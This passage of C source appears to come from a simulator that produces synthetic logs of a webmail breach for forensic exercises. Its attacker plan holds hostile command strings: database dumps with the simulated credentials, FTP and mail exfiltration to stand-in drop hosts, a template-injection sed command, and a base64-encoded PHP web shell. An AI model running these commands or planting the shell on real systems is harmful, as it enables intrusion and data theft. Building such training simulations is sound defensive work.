/* sim.c - the scheduler, the scenarios and the attacker's plan.
 *
 * Every source (a user, a mail flow, a host's noise, the plan) has a next
 * start time in a heap; the earliest runs, writes its records (all at or
 * after its start), and the output queue is flushed up to the next start.
 */
#include "config.h"
#include <stdlib.h>
#include <string.h>
#include "sim.h"

enum src_kind { S_USER, S_INCOMING, S_SPAM_BG, S_SPAM_ONSET, S_NOISE, S_DNS, S_PLAN, S_APACHE_MAIL, S_ROLE_SPAM,
	S_NIGHTLY, S_ADMIN, S_MONITOR, S_LIST };
struct src { bs_time t; uint32_t seq; uint8_t kind; int arg; };
static struct src *sheap;
static size_t sn, scap;
static uint32_t sseq;

static bool src_before(const struct src *a, const struct src *b) { return a->t < b->t || (a->t == b->t && a->seq < b->seq); }

static void src_push(bs_time t, int kind, int arg)
{
	if (sn == scap) {
		scap = scap ? scap * 2 : 1024;
		sheap = bs_xrealloc(sheap, scap * sizeof *sheap);
	}
	struct src s = { t, sseq++, (uint8_t)kind, arg };
	size_t i = sn++;
	while (i && src_before(&s, &sheap[(i - 1) / 2])) {
		sheap[i] = sheap[(i - 1) / 2];
		i = (i - 1) / 2;
	}
	sheap[i] = s;
}

static struct src src_pop(void)
{
	struct src top = sheap[0], last = sheap[--sn];
	size_t i = 0;
	for (;;) {
		size_t c = 2 * i + 1;
		if (c >= sn)
			break;
		if (c + 1 < sn && src_before(&sheap[c + 1], &sheap[c]))
			c++;
		if (!src_before(&sheap[c], &last))
			break;
		sheap[i] = sheap[c];
		i = c;
	}
	if (sn)
		sheap[i] = last;
	return top;
}

/* ------------------------------------------------------------ the plan */
enum act {
	A_PROBE_ALL, A_PROBE_ONE, A_EXPLOIT_RFI, A_EXPLOIT_UPLOAD, A_SHELL, A_DBREAD, A_FTP, A_MAIL_EXFIL,
	A_BRUTE, A_BACKUP, A_ADMIN_SSH, A_SPAM_ONSET, A_IMAP_BURST
};
struct step {
	bs_time t;
	enum act act;
	int server;
	uint32_t ip;
	const char *cmd, *out;
	int param;
};
static struct step plan[128];
static int nplan, plan_next;

static void add(bs_time t, enum act a, int server, uint32_t ip, const char *cmd, const char *out, int param)
{
	if (nplan < (int)(sizeof plan / sizeof plan[0]))
		plan[nplan++] = (struct step){ t, a, server, ip, cmd, out, param };
}

static int cmp_step(const void *x, const void *y)
{
	const struct step *a = x, *b = y;
	return a->t < b->t ? -1 : a->t > b->t;
}

#define IP(a, b, c, d) ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))
static const uint32_t ATT_A = IP(203, 0, 113, 66), ATT_B = IP(198, 51, 100, 77), ATT_C = IP(203, 0, 113, 99);
static const uint32_t FTP1 = IP(192, 0, 2, 200), FTP2 = IP(192, 0, 2, 201), BRUTE_IP = IP(198, 51, 100, 23);
#define MIN (60 * BS_USEC)
#define HOUR (3600 * BS_USEC)
#define DAY (86400 * BS_USEC)

static const char LS[] = "total 48\ndrwxr-xr-x  9 www-data www-data 4096 May  2 11:02 .\ndrwxr-xr-x  6 root     root     4096 Jan 15 09:40 ..\n"
	"-rw-r--r--  1 www-data www-data 2817 Jan 15 09:41 abook.php\n-rw-r--r--  1 www-data www-data 5120 Jan 15 09:41 compose.php\n"
	"-rw-r--r--  1 www-data www-data 1642 Jan 15 09:41 config.php\ndrwxr-xr-x  2 www-data www-data 4096 Jan 15 09:41 css\n"
	"drwxr-xr-x  2 www-data www-data 4096 Jan 15 09:41 imgs\n-rw-r--r--  1 www-data www-data 3302 Jan 15 09:41 index.php\n"
	"drwxr-xr-x  2 www-data www-data 4096 Jan 15 09:41 js\n-rw-r--r--  1 www-data www-data 4411 Jan 15 09:41 login.php\n"
	"-rw-r--r--  1 www-data www-data 2298 Jan 15 09:41 parse.php\ndrwxrwxrwx  2 www-data www-data 4096 May  4 17:31 tmp\n";
static const char CONFIG[] = "<?php\n$pref['sql_host'] = 'db1';\n$pref['sql_user'] = 'atmail';\n$pref['sql_pass'] = 'Atm41l!db';\n"
	"$pref['sql_table'] = 'atmail';\n$pref['imap_host'] = 'imap1';\n$pref['smtp_host'] = 'relay1';\n?>\n";
static const char ID[] = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";
static const char UNAME[] = "Linux wm3 2.6.18-8.1.1.el5 #1 SMP Mon Apr 9 09:43:24 EDT 2007 i686 i686 i386 GNU/Linux\n";
static const char PS[] = "  PID TTY          TIME CMD\n 2211 ?        00:00:00 httpd\n 2212 ?        00:00:00 httpd\n 8817 ?        00:00:00 sh\n 8818 ?        00:00:00 ps\n";

struct scenario {
	const char *name;
	bool attack, two, logs_only, pcapng;
	int y, m, d;
	enum variant v;
	bool variety;
	bool roundcube;       /* the webmail hosts keep Roundcube's own logs */
	bool owa;             /* the webmail hosts are Exchange Client Access servers */
	bool bare;            /* users log in by bare names (the local part), as on a
	                       * fleet whose IMAP store knows system or LDAP users */
	enum tamper_style tamper; /* how the injected code is written */
};
static const struct scenario scenarios[] = {
	{ "reference", true, false, false, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_WINDOW_OPEN },
	{ "clean", false, false, false, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_WINDOW_OPEN },
	{ "maillog-only", true, false, true, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_WINDOW_OPEN },
	{ "two-servers", true, true, false, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_CHARCODE },
	{ "pcapng-vlan", true, false, false, true, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_SPLIT_TAG },
	{ "newyear", true, false, false, false, 2006, 12, 29, V_NONE, false, false, false, false, STYLE_ATOB },
	{ "opened-only", true, false, false, false, 2007, 5, 4, V_OPENED, false, false, false, false, STYLE_POPUP_LINK },
	{ "opened-only-cut", true, false, false, false, 2007, 5, 4, V_OPENED_CUT, false, false, false, false, STYLE_CONST_URL },
	{ "post-shell", true, false, false, false, 2007, 5, 4, V_POST_SHELL, false, false, false, false, STYLE_VAR_URL },
	{ "maillog-only-exfil", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL, false, false, false, false, STYLE_WINDOW_OPEN },
	{ "role-spam", true, false, false, false, 2007, 5, 4, V_ROLE_SPAM, false, false, false, false, STYLE_PACKED },
	{ "variety", true, false, false, false, 2007, 5, 4, V_NONE, true, false, false, false, STYLE_UNESCAPE },
	{ "variety-clean", false, false, false, false, 2007, 5, 4, V_NONE, true, false, false, false, STYLE_WINDOW_OPEN },
	{ "roundcube", true, false, false, false, 2007, 5, 4, V_NONE, false, true, false, false, STYLE_DOM_SCRIPT },
	{ "roundcube-logs", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL, false, true, false, false, STYLE_WINDOW_OPEN },
	{ "owa-logs", true, false, true, false, 2007, 5, 4, V_NONE, false, false, true, false, STYLE_WINDOW_OPEN },
	{ "bare-logins", true, false, false, false, 2007, 5, 4, V_NONE, false, false, false, true, STYLE_CHAR_REFS },
};
#define SCENARIO_NAMES "reference, clean, maillog-only, two-servers, pcapng-vlan, newyear, opened-only, opened-only-cut, " \
	"post-shell, maillog-only-exfil, role-spam, variety, variety-clean, roundcube, roundcube-logs, owa-logs, " \
	"bare-logins"

/* A_SHELL param of the new scenarios: how the command travels, which shell,
 * and 404 once the file is gone. 0: the reference GET to the first shell. */
#define SH(via) (64 | (int)(via))
#define SH2 16
#define SH404 32
static void build_plan_v(const struct scenario *sc, bs_time E);

/* The attacker's command that tampers the templates: the world's snippet
 * before every </body>. */
static const char *tamper_cmd(void)
{
	static struct buf b;
	const char *snip = tamper_snippet();
	buf_clear(&b);
	buf_printf(&b, "sed -i 's|</body>|%.*s</body>|' ../templates/*.html", (int)(strlen(snip) - 1), snip);
	return b.p;
}

static void build_plan(const struct scenario *sc, bs_time S, int days)
{
	bs_time E = bs_time_make(sc->y, sc->m, sc->d, 17, 31, 7, 0);
	for (int s = 0; s < NWEB; s++) {
		WS[s] = (struct webserver){ 0 };
		WS[s].exploit_t = WS[s].last_t = WS[s].tamper_on = WS[s].tamper_off = TIME_NEVER;
		WS[s].tamper_first = WS[s].tamper_last = TIME_NEVER;
		/* The fleet-wide page change, one server after the other. */
		WS[s].deploy_t = S + (days / 2) * DAY + 10 * HOUR + s * 3 * MIN + (bs_time)rng_below(R, 90) * BS_USEC;
	}
	/* Decoys, in every scenario. */
	add(S + 6 * DAY + 2 * HOUR + 10 * MIN, A_BRUTE, 4, BRUTE_IP, NULL, NULL, 400);
	add(S + 10 * DAY + 3 * HOUR + 5 * MIN, A_BACKUP, 1, 0, NULL, NULL, 0);
	add(S + 3 * DAY + 14 * HOUR, A_PROBE_ALL, 0, IP(198, 51, 100, 140), "Morfeus Fucking Scanner", NULL, 6);
	add(S + 12 * DAY + 4 * HOUR + 30 * MIN, A_PROBE_ALL, 0, IP(198, 51, 100, 201), "ZmEu", NULL, 8);
	add(S + 20 * DAY + 22 * HOUR + 10 * MIN, A_PROBE_ALL, 0, IP(198, 51, 100, 150), "Mozilla/5.0 (compatible; Nmap Scripting Engine)", NULL, 5);
	if (!sc->attack)
		return;
	if (sc->v != V_NONE) {
		build_plan_v(sc, E);
		return;
	}
	const int wm3 = 2, wm5 = 4;
	WS[wm3].attacked = true;
	WS[wm3].exploit_t = E;
	WS[wm3].shell_path = "/mail/tmp/.cache.php";
	WS[wm3].tamper_on = E + 1 * DAY + 3 * HOUR + 10 * MIN + 3 * BS_USEC;
	WS[wm3].tamper_off = E + 6 * DAY - 7 * HOUR;
	static const char *const ua = "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.0.7) Gecko/20060909 Firefox/1.5.0.7";
	add(E - 2 * DAY + 3 * HOUR + 12 * MIN, A_PROBE_ALL, 0, ATT_A, ua, NULL, 5);
	add(E - 1 * DAY - 2 * HOUR, A_PROBE_ALL, 0, ATT_A, ua, NULL, 4);
	add(E - 3 * HOUR, A_PROBE_ALL, 0, ATT_A, ua, NULL, 3);
	add(E, A_EXPLOIT_RFI, wm3, ATT_A, NULL, NULL, 0);
	add(E + 40 * BS_USEC, A_SHELL, wm3, ATT_A, "id", ID, 0);
	add(E + 2 * MIN, A_SHELL, wm3, ATT_A, "ls -la", LS, 0);
	add(E + 3 * MIN + 30 * BS_USEC, A_SHELL, wm3, ATT_A, "cat config.php", CONFIG, 0);
	add(E + 5 * MIN, A_SHELL, wm3, ATT_A, "uname -a", UNAME, 0);
	bs_time d1 = E + 1 * DAY + 2 * HOUR + 39 * MIN;
	add(d1, A_SHELL, wm3, ATT_B, "id", ID, 0);
	add(d1 + 2 * MIN, A_SHELL, wm3, ATT_B, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account FROM Users; SELECT Account, Email FROM Abook' > /tmp/.d.txt", "", 0);
	add(d1 + 2 * MIN + 400000, A_DBREAD, wm3, 0, NULL, NULL, 1);
	add(WS[wm3].tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B, tamper_cmd(), "", 0);
	add(E + 2 * DAY - 6 * HOUR, A_SHELL, wm3, ATT_A, "ls -la /tmp", LS, 0);
	bs_time d2 = E + 3 * DAY - 15 * HOUR - 16 * MIN;
	add(d2, A_SHELL, wm3, ATT_A, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Email FROM Abook_old; SELECT EmailTo FROM Log_SendMail' >> /tmp/.d.txt", "", 0);
	add(d2 + 400000, A_DBREAD, wm3, 0, NULL, NULL, 2);
	add(d2 + 8 * MIN, A_SHELL, wm3, ATT_A, "ftp -n ftp.dropzone.example < /tmp/.f", "", 0);
	add(d2 + 8 * MIN + 300000, A_FTP, wm3, FTP1, "ftp.dropzone.example", NULL, 0);
	add(d2 + 12 * MIN, A_SHELL, wm3, ATT_A, "cat /tmp/.d.txt | mail -s dump drop@mailbox.example", "", 0);
	add(d2 + 12 * MIN + 500000, A_MAIL_EXFIL, wm3, 0, NULL, NULL, 0);
	add(E + 4 * DAY + 30 * MIN, A_SHELL, wm3, ATT_B, "ps aux", PS, 0);
	add(E + 5 * DAY - 3 * HOUR, A_SHELL, wm3, ATT_A, "rm -f /tmp/.d.txt /tmp/.f", "", 0);
	add(WS[wm3].tamper_off - 20 * MIN, A_ADMIN_SSH, wm3, 0, NULL, NULL, 0);
	add(E + 9 * DAY, A_SPAM_ONSET, 0, 0, NULL, NULL, 0);
	if (!sc->two)
		return;
	bs_time E2 = E + 4 * DAY + 4 * HOUR + 43 * MIN;
	WS[wm5].attacked = true;
	WS[wm5].exploit_t = E2;
	WS[wm5].shell_path = "/mail/images/thumb.php";
	add(E2 - 2 * HOUR, A_PROBE_ONE, wm5, ATT_C, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", NULL, 6);
	add(E2, A_EXPLOIT_UPLOAD, wm5, ATT_C, NULL, NULL, 0);
	add(E2 + 1 * MIN, A_SHELL, wm5, ATT_C, "id", ID, 0);
	add(E2 + 3 * MIN, A_SHELL, wm5, ATT_C, "cat ../config.php", CONFIG, 0);
	bs_time d3 = E2 + 1 * DAY + 36 * MIN;
	add(d3, A_SHELL, wm5, ATT_C, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account, Email FROM Abook' > /tmp/t.txt", "", 0);
	add(d3 + 400000, A_DBREAD, wm5, 0, NULL, NULL, 3);
	add(d3 + 10 * MIN, A_SHELL, wm5, ATT_C, "ftp -n 192.0.2.201 < /tmp/t.ftp", "", 0);
	/* this attacker compresses the dump before sending it (param 1) */
	add(d3 + 10 * MIN + 300000, A_FTP, wm5, FTP2, NULL, NULL, 1);
	add(E2 + 2 * DAY - 1 * HOUR, A_SHELL, wm5, ATT_C, "rm -f /tmp/t.txt /tmp/t.ftp", "", 0);
}

/* The new scenarios (issue 16): the opened-only database read in two bulk
 * reads, a POST-driven shell with a second shell and probes after removal,
 * a maillog-only archive whose shell mails the dump out, role-account spam. */
static void build_plan_v(const struct scenario *sc, bs_time E)
{
	const int wm3 = 2;
	const bool post = sc->v == V_POST_SHELL, mx = sc->v == V_MAIL_EXFIL;
	struct webserver *w = &WS[wm3];
	w->attacked = true;
	w->exploit_t = E;
	w->shell_path = mx ? "/mail/tmp/x.php" : "/mail/tmp/.cache.php";
	w->shell_path2 = post ? "/mail/imgs/.s.php" : NULL;
	w->vis_first = w->vis_last = TIME_NEVER;
	if (!mx) {
		w->tamper_on = E + 1 * DAY + 3 * HOUR + 10 * MIN + 3 * BS_USEC;
		w->tamper_off = E + 6 * DAY - 7 * HOUR;
	}
	static const char *const ua = "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.0.7) Gecko/20060909 Firefox/1.5.0.7";
	add(E - 2 * DAY + 3 * HOUR + 12 * MIN, A_PROBE_ALL, 0, ATT_A, ua, NULL, 5);
	add(E - 1 * DAY - 2 * HOUR, A_PROBE_ALL, 0, ATT_A, ua, NULL, 4);
	add(E - 3 * HOUR, A_PROBE_ALL, 0, ATT_A, ua, NULL, 3);
	add(E, A_EXPLOIT_RFI, wm3, ATT_A, NULL, NULL, 0);
	add(E + 40 * BS_USEC, A_SHELL, wm3, ATT_A, "id", ID, post ? SH(VIA_FORM) : 0);
	add(E + 2 * MIN, A_SHELL, wm3, ATT_A, "ls -la", LS, post ? SH(VIA_MULTIPART) : 0);
	add(E + 3 * MIN + 30 * BS_USEC, A_SHELL, wm3, ATT_A, "cat config.php", CONFIG, post ? SH(VIA_COOKIE) : 0);
	add(E + 5 * MIN, A_SHELL, wm3, ATT_A, "uname -a", UNAME, post ? SH(VIA_FORM) : 0);
	bs_time d1 = E + 1 * DAY + 2 * HOUR + 39 * MIN;
	add(d1, A_SHELL, wm3, ATT_B, "id", ID, post ? SH(VIA_COOKIE) : 0);
	add(d1 + 2 * MIN, A_SHELL, wm3, ATT_B, mx ? "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account FROM Users; SELECT Account, Email FROM Abook' > /tmp/.d.txt"
		: "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account, FirstName, LastName FROM Users; SELECT Account, Email, FirstName, LastName FROM Abook' > /tmp/.d.txt",
		"", post ? SH(VIA_BODY) : 0);
	add(d1 + 2 * MIN + 400000, A_DBREAD, wm3, 0, NULL, NULL, mx ? 1 : 4);
	if (!mx)
		add(w->tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B, tamper_cmd(), "", post ? SH(VIA_MULTIPART) : 0);
	add(E + 2 * DAY - 6 * HOUR, A_SHELL, wm3, ATT_A, "ls -la /tmp", LS, post ? SH(VIA_COOKIE) : 0);
	if (post) {
		/* A second shell; the admins find and remove the first; the
		 * attacker's request to it is answered 404; the second one goes on. */
		add(E + 2 * DAY - 5 * HOUR, A_SHELL, wm3, ATT_A,
			"echo PD9waHAgcGFzc3RocnUoaXNzZXQoJF9TRVJWRVJbJ0hUVFBfWF9DTUQnXSkgPyAkX1NFUlZFUlsnSFRUUF9YX0NNRCddIDogZmlsZV9nZXRfY29udGVudHMoJ3BocDovL2lucHV0JykpOyA/Pg== | base64 -d > ../imgs/.s.php",
			"", SH(VIA_FORM));
		add(E + 2 * DAY - 2 * HOUR, A_ADMIN_SSH, wm3, 0, NULL, NULL, 1);
		add(E + 2 * DAY - 1 * HOUR, A_SHELL, wm3, ATT_A, "id", "", SH(VIA_FORM) | SH404);
		add(E + 2 * DAY - 50 * MIN, A_SHELL, wm3, ATT_A, "id", ID, SH(VIA_HEADER) | SH2);
	}
	int sh2 = post ? SH2 : 0;
	bs_time d2 = E + 3 * DAY - 15 * HOUR - 16 * MIN;
	if (mx) {
		add(d2, A_SHELL, wm3, ATT_A, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Email FROM Abook_old; SELECT EmailTo FROM Log_SendMail' >> /tmp/.d.txt", "", 0);
		add(d2 + 400000, A_DBREAD, wm3, 0, NULL, NULL, 2);
		/* The night before, the passwords seen on wm3 are tried on IMAP through it. */
		add(E + 1 * DAY + 9 * HOUR + 34 * MIN, A_IMAP_BURST, wm3, 0, NULL, NULL, 0);
	} else {
		add(d2, A_SHELL, wm3, ATT_A, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Email, Name, Direction FROM Correspondents' >> /tmp/.d.txt",
			"", post ? SH(VIA_BODY) | sh2 : 0);
		add(d2 + 400000, A_DBREAD, wm3, 0, NULL, NULL, 5);
		add(d2 + 8 * MIN, A_SHELL, wm3, ATT_A, "ftp -n ftp.dropzone.example < /tmp/.f", "", post ? SH(VIA_HEADER) | sh2 : 0);
		add(d2 + 8 * MIN + 300000, A_FTP, wm3, FTP1, "ftp.dropzone.example", NULL, 0);
	}
	add(d2 + 12 * MIN, A_SHELL, wm3, ATT_A, "cat /tmp/.d.txt | mail -s dump drop@mailbox.example", "", post ? SH(VIA_BODY) | sh2 : 0);
	add(d2 + 12 * MIN + 500000, A_MAIL_EXFIL, wm3, 0, NULL, NULL, 0);
	add(E + 4 * DAY + 30 * MIN, A_SHELL, wm3, ATT_B, "ps aux", PS, post ? SH(VIA_HEADER) | sh2 : 0);
	add(E + 5 * DAY - 3 * HOUR, A_SHELL, wm3, ATT_A, "rm -f /tmp/.d.txt /tmp/.f", "", post ? SH(VIA_BODY) | sh2 : 0);
	add(E + 6 * DAY - 7 * HOUR - 20 * MIN, A_ADMIN_SSH, wm3, 0, NULL, NULL, 0);
	if (post) {
		/* Probes after the clean-up: not use, the window stays. */
		add(E + 6 * DAY + 2 * HOUR, A_SHELL, wm3, ATT_A, "id", "", SH(VIA_HEADER) | SH2 | SH404);
		add(E + 7 * DAY + 5 * HOUR, A_SHELL, wm3, ATT_B, "id", "", SH404);
	}
	/* The spam run: ~9 days after the dump, from the early morning (role-spam). */
	bs_time dump = d2 + 12 * MIN;
	add(sc->v == V_ROLE_SPAM ? (dump / DAY + 9) * DAY + 4 * HOUR + 12 * MIN : E + 9 * DAY, A_SPAM_ONSET, 0, 0, NULL, NULL, 0);
}

static void dump_end_at(bs_time t)
{
	if (t > W.dump_end)
		W.dump_end = t;
}

/* ---------------------------------------------------- the attacker's DB reads */
static struct buf dump[NWEB];

struct rows { const struct row2 *r; size_t n; int col2; };
static const char *all_users_cell(void *ctx, size_t row, size_t col)
{
	(void)col;
	const int *ids = ctx;
	return W.addrs[ids[row]].s;
}
static const char *pair_cell(void *ctx, size_t row, size_t col)
{
	const struct row2 *r = ((struct rows *)ctx)->r;
	if (((struct rows *)ctx)->col2 && col == 0)
		return W.addrs[W.users[r[row].user].addr].s;
	return W.addrs[r[row].addr].s;
}

static void dump_rows(struct buf *d, const char *header, const struct row2 *r, size_t n, bool with_account, uint8_t cat)
{
	buf_printf(d, "%s\n", header);
	for (size_t i = 0; i < n; i++) {
		if (with_account) {
			buf_printf(d, "%s\t", W.addrs[W.users[r[i].user].addr].s);
			truth_attacker_read(W.users[r[i].user].addr, cat);
		}
		buf_printf(d, "%s\n", W.addrs[r[i].addr].s);
		truth_attacker_read(r[i].addr, cat);
	}
}

/* The opened-only database: every cell of a result row, by column. */
struct odb_rows { const struct row2 *r; const struct corr *c; };
static const char *odb_users_cell(void *ctx, size_t row, size_t col)
{
	const struct user *u = &W.users[((const struct odb_rows *)ctx)->r[row].user];
	return col == 0 ? W.addrs[u->addr].s : col == 1 ? u->first : u->last;
}
static const char *odb_abook_cell(void *ctx, size_t row, size_t col)
{
	const struct row2 *r = &((const struct odb_rows *)ctx)->r[row];
	return abook_field(r->user, r->addr, col);
}
static const char *odb_corr_cell(void *ctx, size_t row, size_t col)
{
	static char name[64];
	const struct corr *c = &((const struct odb_rows *)ctx)->c[row];
	if (col == 0)
		return W.addrs[c->addr].s;
	if (col == 2)
		return c->received ? "received" : "sent";
	if (!c->received)
		return "";
	snprintf(name, sizeof name, "%s %s", W.users[c->addr % W.nusers].first, W.users[c->addr / 3 % W.nusers].last);
	return name;
}

/* Writes the rows to the dump and tells the truth which addresses they hold
 * (cells with an '@', in any column) and whether the capture saw them as
 * rows: the MySQL parser cannot find the packet framing again after a gap
 * inside a result, so the rows after the gap are lost with it. */
static void odb_dump(struct buf *d, const char *header, cell_fn cell, void *ctx, size_t nrows, size_t ncols,
	uint8_t (*cat)(void *ctx, size_t row), size_t gap_from, size_t gap_to)
{
	buf_printf(d, "%s\n", header);
	for (size_t r = 0; r < nrows; r++)
		for (size_t c = 0; c < ncols; c++) {
			const char *v = cell(ctx, r, c);
			buf_printf(d, "%s%s", v, c + 1 < ncols ? "\t" : "\n");
			if (strchr(v, '@'))
				truth_seen(addr_intern(v), cat(ctx, r), r < gap_from);
		}
}
static uint8_t cat_login(void *ctx, size_t row) { (void)ctx; (void)row; return CAT_LOGIN; }
static uint8_t cat_abook(void *ctx, size_t row) { (void)ctx; (void)row; return CAT_ADDRESSBOOK; }
static uint8_t cat_corr(void *ctx, size_t row)
{
	return ((const struct odb_rows *)ctx)->c[row].received ? CAT_RECEIVED_FROM : CAT_SENT_TO;
}

static void attacker_dbread_odb(struct tcpconn *tc, struct buf *d, int which)
{
	if (which == 5) {
		struct odb_rows ctx = { NULL, W.corr };
		static const char *const cc[] = { "Email", "Name", "Direction" };
		size_t n = (size_t)W.ncorr;
		mysql_select(tc, "SELECT Email, Name, Direction FROM Correspondents", "Correspondents", cc, 3, n, odb_corr_cell, &ctx);
		odb_dump(d, "Email\tName\tDirection", odb_corr_cell, &ctx, n, 3, cat_corr, SIZE_MAX, SIZE_MAX);
		return;
	}
	size_t n = 0;
	for (int i = 0; i < W.nusers; i++)
		n += (size_t)W.users[i].nabook + 1;
	struct row2 *r = bs_xmalloc((n + 1) * sizeof *r);
	struct odb_rows ctx = { r, NULL };
	n = 0;
	for (int i = 0; i < W.nusers; i++)
		if (W.users[i].in_users)
			r[n++] = (struct row2){ i, W.users[i].addr, 0 };
	static const char *const cu[] = { "Account", "FirstName", "LastName" };
	mysql_select(tc, "SELECT Account, FirstName, LastName FROM Users", "Users", cu, 3, n, odb_users_cell, &ctx);
	odb_dump(d, "Account\tFirstName\tLastName", odb_users_cell, &ctx, n, 3, cat_login, SIZE_MAX, SIZE_MAX);
	n = 0;
	for (int i = 0; i < W.nusers; i++)
		for (int k = 0; k < W.users[i].nabook; k++)
			r[n++] = (struct row2){ i, W.users[i].abook[k], 0 };
	size_t gf = SIZE_MAX, gt = SIZE_MAX;
	if (W.variant == V_OPENED_CUT) {
		gf = n * 2 / 5;
		gt = n * 3 / 5;
		mysql_set_gap(gf, gt);
		W.gap_from = gf;
		W.gap_to = gt;
	}
	static const char *const ca[] = { "Account", "Email", "FirstName", "LastName" };
	mysql_select(tc, "SELECT Account, Email, FirstName, LastName FROM Abook", "Abook", ca, 4, n, odb_abook_cell, &ctx);
	odb_dump(d, "Account\tEmail\tFirstName\tLastName", odb_abook_cell, &ctx, n, 4, cat_abook, gf, gt);
	free(r);
}

static void attacker_dbread(int server, int which, bs_time t)
{
	struct tcpconn tc;
	struct buf *d = &dump[server];
	mysql_open(&tc, server, t, "atmail");
	if (which == 1) {
		int *ids = bs_xmalloc((size_t)W.nusers * sizeof *ids), n = 0;
		for (int i = 0; i < W.nusers; i++)
			if (!W.users[i].desktop)
				ids[n++] = W.users[i].addr;
		static const char *const c1[] = { "Account" };
		mysql_select(&tc, "SELECT Account FROM Users", "Users", c1, 1, (size_t)n, all_users_cell, ids);
		buf_puts(d, "Account\n");
		for (int i = 0; i < n; i++) {
			buf_printf(d, "%s\n", W.addrs[ids[i]].s);
			truth_attacker_read(ids[i], CAT_LOGIN);
		}
		W.covered |= CAT_LOGIN;
		free(ids);
		server_activity(server, tc.t);
	}
	if (which == 1 || which == 3) {
		/* Every address-book row of every account. */
		size_t n = 0;
		for (int i = 0; i < W.nusers; i++)
			n += (size_t)W.users[i].nabook;
		struct row2 *r = bs_xmalloc((n + 1) * sizeof *r);
		n = 0;
		for (int i = 0; i < W.nusers; i++)
			for (int k = 0; k < W.users[i].nabook; k++)
				r[n++] = (struct row2){ i, W.users[i].abook[k], 0 };
		struct rows ctx = { r, n, 1 };
		static const char *const c2[] = { "Account", "Email" };
		mysql_select(&tc, "SELECT Account, Email FROM Abook", "Abook", c2, 2, n, pair_cell, &ctx);
		dump_rows(d, "Account\tEmail", r, n, true, CAT_ADDRESSBOOK);
		W.covered |= CAT_ADDRESSBOOK;
		free(r);
		server_activity(server, tc.t);
	}
	if (which == 2) {
		struct rows ctx = { W.abook_old, (size_t)W.nabook_old, 0 };
		static const char *const c3[] = { "Email" };
		mysql_select(&tc, "SELECT Email FROM Abook_old", "Abook_old", c3, 1, ctx.n, pair_cell, &ctx);
		/* an old copy: its rows, but nothing of what the live Abook holds */
		dump_rows(d, "Email", W.abook_old, ctx.n, false, CAT_ADDRESSBOOK);
		server_activity(server, tc.t);
		/* The send log as it stands now. */
		struct row2 *r = bs_xmalloc(((size_t)W.nsendlog + 1) * sizeof *r);
		size_t n = 0;
		for (int i = 0; i < W.nsendlog; i++)
			if (W.sendlog[i].t <= tc.t)
				r[n++] = W.sendlog[i];
		struct rows c4 = { r, n, 0 };
		static const char *const c5[] = { "EmailTo" };
		mysql_select(&tc, "SELECT EmailTo FROM Log_SendMail", "Log_SendMail", c5, 1, n, pair_cell, &c4);
		dump_rows(d, "EmailTo", r, n, false, CAT_SENT_TO);
		W.covered |= CAT_SENT_TO;
		free(r);
		server_activity(server, tc.t);
	}
	if (which == 4 || which == 5)
		attacker_dbread_odb(&tc, d, which);
	server_activity(server, tc.t);
	dump_end_at(tc.t);
	mysql_quit(&tc);
}

/* mail(1) on a webmail server as its web server account: Postfix pickup, then
 * relayed through relay1. */
static void local_mail(int server, bs_time t, int uid, const char *account, int sender, int rcpt, const char *subject,
	const struct buf *d)
{
	char qid[16], mid[96], iso[40];
	struct buf data = { 0 };
	new_qid(qid);
	snprintf(mid, sizeof mid, "<%llu.%s@%s.example.net>", (unsigned long long)(t / BS_USEC), qid, host_names[server]);
	bs_time_format(t, 0, iso, sizeof iso);
	buf_printf(&data, "Date: %s\r\nFrom: %s@%s.example.net\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: %s\r\n\r\n",
		iso, account, host_names[server], W.addrs[rcpt].s, subject, mid);
	for (size_t i = 0; i < d->n; i++) {
		if (d->p[i] == '\n')
			buf_add(&data, "\r\n", 2);
		else
			buf_add(&data, d->p + i, 1);
	}
	int pid = next_pid(server);
	char from[64];
	snprintf(from, sizeof from, "%s@%s.example.net", account, host_names[server]);
	out_syslog(server, t, "postfix/pickup", pid, "%s: uid=%d from=<%s>", qid, uid, from);
	out_syslog(server, t + 20000, "postfix/cleanup", next_pid(server), "%s: message-id=%s", qid, mid);
	out_syslog(server, t + 40000, "postfix/qmgr", 1502, "%s: from=<%s>, size=%zu, nrcpt=1 (queue active)", qid, from, data.n);
	char rq[16];
	bs_time te = smtp_to_relay(server, NULL, NULL, from, sender, &rcpt, 1, data.p, data.n, t + 60000, rq);
	out_syslog(server, te, "postfix/smtp", next_pid(server),
		"%s: to=<%s>, relay=relay1.example.net[10.0.2.30]:25, delay=%.1f, delays=0.04/0.01/0.1/%.1f, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %s)",
		qid, W.addrs[rcpt].s, (double)(te - t) / 1e6, (double)(te - t) / 1e6 - 0.15, rq);
	out_syslog(server, te + 1000, "postfix/qmgr", 1502, "%s: removed", qid);
	buf_free(&data);
}

/* maillog-only-exfil: attacker activity that the maillogs show. */
static void visible(int s, bs_time t)
{
	struct webserver *w = &WS[s];
	if (w->vis_first == TIME_NEVER || t < w->vis_first)
		w->vis_first = t;
	if (w->vis_last == TIME_NEVER || t > w->vis_last)
		w->vis_last = t;
}

static void attacker_mail_exfil(int server, bs_time t)
{
	int drop = addr_intern("drop@mailbox.example");
